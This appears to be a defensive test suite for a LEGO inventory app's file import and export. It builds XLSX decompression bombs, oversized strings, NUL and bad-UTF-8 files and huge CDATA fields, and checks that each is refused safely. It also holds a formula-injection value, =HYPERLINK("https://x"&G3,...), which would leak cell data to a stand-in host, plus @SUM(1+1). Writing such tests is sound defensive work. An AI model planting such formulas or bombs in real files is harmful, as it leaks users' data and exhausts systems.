// Hostile files through the real import and export: each file is built here, registered as a
// picked file and read by a real core (or the CLI as its own process), and every refusal must
// name the file and what was wrong, bound the memory used, and change nothing.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { cli } from '../cli';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Core } from '../../src/main/core';
import type { ExportResult, ImportPreview } from '../../src/shared/contract';
import type { CreateOutcome } from '../../src/shared/types';
import { unwrap } from '../../src/shared/errors';
import { cleanupTempDirs, makeCore, tempDir } from '../helpers';
import { SST_HEAD, part, repeatedPart, sheetPart, workbook, zip } from './zip';

let core: Core;
beforeEach(() => {
  core = makeCore();
});
afterEach(() => core.close());
afterAll(cleanupTempDirs);

const token = (file: string, mode: 'read' | 'write' = 'read') => core.files.register(file, mode).token;

function lotRows() {
  return core.db.sqlite
    .prepare(
      'SELECT part_id, color_id, storage_location, quantity_total, quantity_used, name, notes FROM inventory_items ORDER BY id',
    )
    .all();
}

async function seedOne() {
  const r = await core.invoke('inventory.create', {
    lot: { partId: '3001', colorId: 4, quantityTotal: 3, storageLocation: 'Drawer 1' },
  });
  expect(r.ok).toBe(true);
}

/** Runs a preview while sampling the process's resident memory; returns the result and the peak growth. */
async function previewMeasured(file: string, extra: object = {}) {
  global.gc?.();
  const base = process.memoryUsage().rss;
  let peak = base;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
  try {
    const r = await core.invoke('import.preview', { file: token(file), ...extra });
    peak = Math.max(peak, process.memoryUsage().rss);
    return { r, grewMb: (peak - base) / (1024 * 1024) };
  } finally {
    clearInterval(timer);
  }
}

function write(name: string, data: Buffer | string): string {
  const file = path.join(tempDir('bs-hostile-'), name);
  writeFileSync(file, data);
  return file;
}

const HEADER = `<si><t>Part</t></si><si><t>Color</t></si><si><t>Quantity</t></si>`;
const HEADER_ROW = [{ s: 0 }, { s: 1 }, { s: 2 }];
const MiB = 1024 * 1024;

describe('XLSX that expands without bound', () => {
  async function refused(file: string, message: RegExp) {
    await seedOne();
    const before = lotRows();
    const { r, grewMb } = await previewMeasured(file);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('invalid-input');
    expect(r.error.message).toMatch(message);
    expect(grewMb).toBeLessThan(200);
    expect(lotRows()).toEqual(before);
  }

  it('a shared-string table that honestly declares 3.8 GB is refused before it is read', async () => {
    const sst = repeatedPart('xl/sharedStrings.xml', `${SST_HEAD}${HEADER}<si><t>`, 'a'.repeat(MiB), 3800, '</t></si></sst>');
    const file = write('honest-bomb.xlsx', zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 1 }]]))));
    expect(readFileSync(file).length).toBeLessThan(10 * MiB);
    await refused(file, /^honest-bomb\.xlsx: .*declares .*MB uncompressed.*512 MB.*refused/);
  });

  it('a shared-string table that declares 20 KB and expands to 3.8 GB is stopped as it grows', async () => {
    const sst = repeatedPart(
      'xl/sharedStrings.xml',
      `${SST_HEAD}${HEADER}<si><t>`,
      'a'.repeat(MiB),
      3800,
      '</t></si></sst>',
      20_000,
    );
    const file = write('lying-bomb.xlsx', zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 1 }]]))));
    await refused(file, /^lying-bomb\.xlsx: .*xl\/sharedStrings\.xml.*refused/);
  });

  it('one shared string of 200 MB is stopped at the per-cell limit', async () => {
    const sst = repeatedPart('xl/sharedStrings.xml', `${SST_HEAD}${HEADER}<si><t>`, 'a'.repeat(MiB), 200, '</t></si></sst>');
    const file = write('long-string.xlsx', zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 1 }]]))));
    await refused(file, /^long-string\.xlsx: .*longer than 32,767 characters; refused/);
  });

  it('a table of 1.2 million shared strings is refused at the count limit', async () => {
    const sst = repeatedPart('xl/sharedStrings.xml', `${SST_HEAD}${HEADER}`, '<si><t>x</t></si>'.repeat(65_536), 19, '</sst>');
    const file = write('many-strings.xlsx', zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 1 }]]))));
    await refused(file, /^many-strings\.xlsx: the shared-string table holds more than 1,000,000 strings; refused/);
  });

  it('a sheet cell far past the last column is refused', async () => {
    const sst = part('xl/sharedStrings.xml', `${SST_HEAD}${HEADER}<si><t>3001</t></si></sst>`);
    const sheet = part(
      'xl/worksheets/sheet1.xml',
      `<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>` +
        `<row r="2"><c r="XFD2"><v>1</v></c></row></sheetData></worksheet>`,
    );
    await refused(write('wide.xlsx', zip(workbook(sst, sheet))), /^wide\.xlsx: row 2 has a cell past column 1,000; refused/);
  });

  it('the same reader still imports an ordinary workbook with shared strings', async () => {
    const sst = part(
      'xl/sharedStrings.xml',
      `${SST_HEAD}${HEADER}<si><t>3001</t></si><si><r><t>30</t></r><r><t>69b</t></r></si></sst>`,
    );
    const file = write(
      'fine.xlsx',
      zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 2 }], [{ s: 4 }, { n: 71 }, { n: 5 }]]))),
    );
    const r = await core.invoke('import.preview', { file: token(file) });
    expect(r.ok && (r.data as ImportPreview)).toMatchObject({ format: 'xlsx', rows: 2, lots: 2, invalidCount: 0 });
  });

  it('the CLI, as its own process with a 160 MB heap, refuses the bomb and exits 1 (not out of memory)', async () => {
    const sst = repeatedPart(
      'xl/sharedStrings.xml',
      `${SST_HEAD}${HEADER}<si><t>`,
      'a'.repeat(MiB),
      3800,
      '</t></si></sst>',
      20_000,
    );
    const file = write('cli-bomb.xlsx', zip(workbook(sst, sheetPart([HEADER_ROW, [{ s: 3 }, { n: 4 }, { n: 1 }]]))));
    const { code, stderr } = await cli(['--data-dir', tempDir('bs-hostile-cli-'), 'import', file], {
      NODE_OPTIONS: '--max-old-space-size=160',
    });
    expect(stderr).toMatch(/cli-bomb\.xlsx: .*xl\/sharedStrings\.xml.*refused/);
    expect(code).toBe(1);
  });
});

describe('part numbers that a spreadsheet would run', () => {
  const HYPER = '=HYPERLINK("https://x"&G3,"3001")';

  it('are invalid rows on import (CSV and XLSX), reported as FILE:ROW: field: reason', async () => {
    const csv = write(
      'hyper.csv',
      `Part,Color,Quantity\r\n"${HYPER.replaceAll('"', '""')}",4,1\r\n"'${HYPER.replaceAll('"', '""')}",4,1\r\n3001_x,4,1\r\n3001,4,2\r\n3069b,71,1\r\n`,
    );
    const r = await core.invoke('import.preview', { file: token(csv) });
    const p = unwrap(r) as ImportPreview;
    expect(p).toMatchObject({ rows: 5, valid: 2, invalidCount: 3 });
    expect(p.invalid.map((x) => `${x.file}:${x.row}: ${x.field}: ${x.reason}`)).toEqual([
      'hyper.csv:2: Part: may hold only letters, digits, “-” and “.”',
      'hyper.csv:3: Part: may hold only letters, digits, “-” and “.”',
      'hyper.csv:4: Part: may hold only letters, digits, “-” and “.”',
    ]);

    const xlsx = path.join(tempDir('bs-hostile-'), 'hyper.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Parts');
    ws.addRow(['Part', 'Color', 'Quantity']);
    ws.addRow([HYPER, 4, 1]);
    ws.addRow(['x'.repeat(41), 4, 1]);
    await wb.xlsx.writeFile(xlsx);
    const x = await core.invoke('import.preview', { file: token(xlsx) });
    expect(x.ok && (x.data as ImportPreview).invalid.map((i) => `${i.row}: ${i.field}: ${i.reason}`)).toEqual([
      '2: Part: may hold only letters, digits, “-” and “.”',
      '3: Part: is longer than 40 characters',
    ]);
  });

  it('are refused by add and update', async () => {
    const add = await core.invoke('inventory.create', { lot: { partId: HYPER, colorId: 4, quantityTotal: 1 } });
    expect(add).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(JSON.stringify(add)).toContain('lot.partId');
    const made = unwrap(
      await core.invoke('inventory.create', { lot: { partId: '973pb1234c01', colorId: 4, quantityTotal: 1 } }),
    ) as CreateOutcome;
    const id = made.status === 'duplicate' ? made.existing.id : made.lot.id;
    const upd = await core.invoke('inventory.update', { id, patch: { partId: '@SUM(1+1)' } });
    expect(upd).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(lotRows()).toMatchObject([{ part_id: '973pb1234c01' }]);
  });

  it('are neutralised in every exported cell (CSV and XLSX) by the same rule; plain numbers stay', async () => {
    for (const lot of [
      { partId: '3001', colorId: 4, quantityTotal: 2, storageLocation: '-5' },
      { partId: '-1', colorId: 0, quantityTotal: 1, storageLocation: '-5 shelf', name: '+Tile' },
      { partId: '3069b', colorId: 71, quantityTotal: 1, storageLocation: 'Box' },
    ]) {
      expect((await core.invoke('inventory.create', { lot })).ok).toBe(true);
    }
    // A lot stored before part numbers were checked.
    core.db.sqlite.prepare(`UPDATE inventory_items SET part_id = ? WHERE part_id = '3069b'`).run(HYPER);
    const dir = tempDir('bs-hostile-out-');
    const out = async (format: string, name: string) => {
      const file = path.join(dir, name);
      const r = unwrap(await core.invoke('export.run', { file: token(file, 'write'), format })) as ExportResult;
      expect(r.lots).toBe(3);
      return file;
    };
    const quoted = `"'${HYPER.replaceAll('"', '""')}"`;
    const bs = readFileSync(await out('blockshelf-csv', 'a.csv'), 'utf8').split('\r\n');
    expect(bs).toEqual(expect.arrayContaining([',3001,4,2,0,-5,,', "'+Tile,-1,0,1,0,'-5 shelf,,", `,${quoted},71,1,0,Box,,`]));
    const rb = readFileSync(await out('rebrickable-csv', 'b.csv'), 'utf8').split('\r\n');
    expect(rb).toEqual(expect.arrayContaining(['3001,4,2,,-5,False,False', `${quoted},71,1,,Box,False,False`]));

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(await out('xlsx', 'c.xlsx'));
    const sheetRows = wb.worksheets[0]!.getSheetValues().slice(2) as unknown[][];
    expect(sheetRows.map((r) => r[2]).sort()).toEqual([`'${HYPER}`, '-1', '3001']);
    expect(sheetRows.map((r) => r[1])).toContain("'+Tile");
    expect(sheetRows.map((r) => r[7])).toEqual(expect.arrayContaining(['-5', "'-5 shelf"]));
  });
});

describe('text files with hidden damage', () => {
  const rows = (n: number) => Array.from({ length: n }, (_, i) => `3001,4,1,Drawer ${i}\r\n`).join('');

  it('a NUL byte past the first 64 KB is refused with its line, and nothing is stored', async () => {
    await seedOne();
    const before = lotRows();
    const body = `Part,Color,Quantity,Location\r\n${rows(4000)}3002,4,1,Dra\u0000wer\r\n`;
    expect(body.indexOf('\u0000')).toBeGreaterThan(64 * 1024);
    const r = await core.invoke('import.preview', { file: token(write('nul.csv', body)) });
    expect(r).toMatchObject({
      ok: false,
      error: { code: 'invalid-input', message: expect.stringMatching(/^nul\.csv:4002: .*NUL/) },
    });
    expect(lotRows()).toEqual(before);
  });

  it('a bad UTF-8 byte near byte 120,000 is reported at its real byte and line', async () => {
    const head = Buffer.from(`Part,Color,Quantity,Location\r\n${rows(6000)}`);
    const line = 6002;
    const good = Buffer.concat([head, Buffer.from('3002,4,1,Caf')]);
    const file = write('bad-utf8.csv', Buffer.concat([good, Buffer.from([0xff]), Buffer.from('\r\n3003,4,1,x\r\n')]));
    expect(good.length).toBeGreaterThan(100_000);
    const r = await core.invoke('import.preview', { file: token(file) });
    expect(r.ok).toBe(false);
    expect(!r.ok && r.error.message).toMatch(
      new RegExp(`^bad-utf8\\.csv: the file is not valid UTF-8 at byte ${good.length} \\(line ${line}\\);`),
    );
  });

  it('CDATA in BrickLink XML is held to the field limit as it streams', async () => {
    await seedOne();
    const before = lotRows();
    const big = 'a'.repeat(30 * MiB);
    const file = write(
      'cdata.xml',
      `<?xml version="1.0"?>\n<INVENTORY>\n<ITEM><ITEMTYPE>P</ITEMTYPE><ITEMID>3001</ITEMID><COLOR>11</COLOR><QTY>1</QTY>\n<REMARKS><![CDATA[${big}]]></REMARKS></ITEM>\n</INVENTORY>\n`,
    );
    const { r, grewMb } = await previewMeasured(file);
    expect(r).toMatchObject({
      ok: false,
      error: { code: 'invalid-input', message: 'cdata.xml:4: <REMARKS> is longer than 10000 characters' },
    });
    expect(grewMb).toBeLessThan(60);
    expect(lotRows()).toEqual(before);
  });

  it('BrickStore CDATA is held to the same limit', async () => {
    const file = write(
      'cdata.bsx',
      `<?xml version="1.0"?>\n<BrickStoreXML><Inventory><Item><ItemID>3001</ItemID><ItemTypeID>P</ItemTypeID><ColorID>11</ColorID><Qty>1</Qty>` +
        `<Comments><![CDATA[${'b'.repeat(20_000)}]]></Comments></Item></Inventory></BrickStoreXML>\n`,
    );
    const r = await core.invoke('import.preview', { file: token(file) });
    expect(r).toMatchObject({ ok: false, error: { message: 'cdata.bsx:2: <COMMENTS> is longer than 10000 characters' } });
  });
});
